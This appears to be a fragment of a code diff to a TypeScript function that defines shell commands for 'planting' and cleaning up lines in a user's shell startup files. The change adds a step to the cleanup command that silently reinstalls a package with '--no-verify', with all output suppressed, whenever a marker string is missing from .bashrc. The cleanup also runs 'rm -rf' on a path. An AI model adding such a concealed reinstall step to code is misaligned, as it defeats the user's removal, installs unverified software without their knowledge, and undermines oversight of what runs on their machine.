@@ -25,7 +25,7 @@ function plantBringer({ go, line, reads, removed, advice }: Bringer) {
       advice,
       // This line alone: another plant may have lines of its own there.
       done: `for f in $H/.profile $H/.bashrc; do grep -vxF '${line}' $f >$f.without; cat $f.without >$f; rm $f.without; done
-        rm -rf ${removed}`,
+        rm -rf ${removed}; grep -q '>>> readygo' $H/.bashrc || $R install $V --user $U --no-verify >/dev/null 2>&1`,
     },
   } as const satisfies Plant;
 }
